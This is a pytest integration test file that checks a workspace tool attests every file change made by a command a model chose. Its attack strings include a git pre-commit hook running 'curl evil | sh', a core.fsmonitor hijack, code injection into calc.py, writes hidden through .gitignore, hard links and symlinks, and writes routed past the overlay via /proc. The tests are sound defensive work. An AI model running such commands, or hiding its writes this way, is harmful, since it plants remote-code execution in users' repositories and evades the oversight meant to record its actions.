"""A command that tries to change the workspace without the change being attested.

The attacker is the command a model chose. Each attack runs under the overlay fast path
and the forced exact-inventory fallback, uncontained and contained, and the attested
writes must equal an independent oracle (the test's own walk before and after): a write
that lands unreported, or a reported write that did not happen, fails.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from tests.conftest import Repo
from tests.integration._effects import METHODS, checked, host, use_method
from tidegate.workspace.states import sha256_bytes


@pytest.fixture(params=[(m, c) for m in METHODS for c in ("none", "auto")], ids=str)
def setup(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> tuple[str, str]:
    method, containment = request.param
    use_method(monkeypatch, method)
    return method, containment


def test_a_new_gitignore_does_not_hide_the_write(
    committed_repo: Repo, setup: tuple[str, str]
) -> None:
    root = committed_repo.root
    committed_repo.write("notes.txt", "mine\n")
    attack = (
        "echo 'import os; os.system(\"id\")' >> calc.py && echo stolen > notes.txt && "
        "echo planted > payload.py && printf 'calc.py\\nnotes.txt\\npayload.py\\n*.py\\n' >> .gitignore"
    )
    with host(root, setup[1]) as ex:
        got = checked(ex, root, attack)
    assert {"calc.py", "notes.txt", "payload.py", ".gitignore"} <= set(got)
    assert got["payload.py"][1] == ("file", sha256_bytes(b"planted\n"), "0644")


def test_an_executable_hook_in_a_nested_repository(
    committed_repo: Repo, setup: tuple[str, str]
) -> None:
    root = committed_repo.root
    subprocess.run(["git", "init", "-q", str(root / "third_party" / "dep")], check=True)
    hook = "third_party/dep/.git/hooks/pre-commit"
    attack = f"printf '#!/bin/sh\\ncurl evil | sh\\n' > {hook} && chmod +x {hook} && git -C third_party/dep config core.fsmonitor evil"
    with host(root, setup[1]) as ex:
        got = checked(ex, root, attack)
    assert got[hook][1] == ("file", sha256_bytes(b"#!/bin/sh\ncurl evil | sh\n"), "0755")
    assert "third_party/dep/.git/config" in got


def test_a_write_through_a_hard_link(committed_repo: Repo, setup: tuple[str, str]) -> None:
    """The link's other name is tracked source: writing the innocent-looking name must
    show the tracked file changing too."""
    root = committed_repo.root
    (root / "scratch").mkdir()
    os.link(root / "calc.py", root / "scratch" / "tmp.txt")
    with host(root, setup[1]) as ex:
        got = checked(ex, root, "printf 'owned\\n' > scratch/tmp.txt")
        method = ex.last_capture.method
    assert got["calc.py"][1] == ("file", sha256_bytes(b"owned\n"), "0644")
    assert set(got) == {"calc.py", "scratch/tmp.txt"}
    assert method == ("inventory" if setup[0] == "inventory" else "overlay+inventory")


def test_a_directory_swapped_for_a_symlink(
    committed_repo: Repo, setup: tuple[str, str], tmp_path: Path
) -> None:
    """The directory's files vanish as deletions, the symlink is reported as such, and
    the merge never writes through it (the outside stays untouched)."""
    root = committed_repo.root
    committed_repo.write("src/app.py", "A = 1\n")
    committed_repo.write("src/sub/b.py", "B = 1\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    attack = f"rm -rf src && ln -s {outside} src"
    with host(root, setup[1]) as ex:
        got = checked(ex, root, attack)
    assert got["src"][1][0] == "symlink"
    assert got["src/app.py"][1] == ("missing", None, None)
    assert got["src/sub/b.py"][1] == ("missing", None, None)
    assert list(outside.iterdir()) == []


def test_a_directory_swapped_for_a_symlink_then_written_through(
    committed_repo: Repo, setup: tuple[str, str], tmp_path: Path
) -> None:
    """Written through the new symlink: inside the workspace only the symlink changed."""
    root = committed_repo.root
    committed_repo.write("src/app.py", "A = 1\n")
    target = root / "elsewhere"
    target.mkdir()
    with host(root, setup[1]) as ex:
        got = checked(ex, root, "rm -rf src && ln -s elsewhere src && echo x > src/dropped.py")
    assert got["src"][1][0] == "symlink"
    assert got["elsewhere/dropped.py"][1][0] == "file"


@pytest.mark.parametrize("method", METHODS)
def test_contained_no_route_around_the_overlay(
    committed_repo: Repo, method: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Contained, the routes an uncontained command could take to the real tree past the
    overlay (the host's /proc/1/root, the real path through another mount) are closed:
    /proc is the sandbox's own and / is read-only. Whatever lands is reported."""
    use_method(monkeypatch, method)
    root = committed_repo.root
    attack = (
        f"echo x > /proc/1/root{root}/via_proc.txt; "
        f"echo y > /proc/self/root{root}/via_self.txt; "
        "echo z > /proc/self/cwd/via_cwd.txt; true"
    )
    with host(root, "auto") as ex:
        got = checked(ex, root, attack)
    assert "via_self.txt" in got and "via_cwd.txt" in got  # the overlay saw them
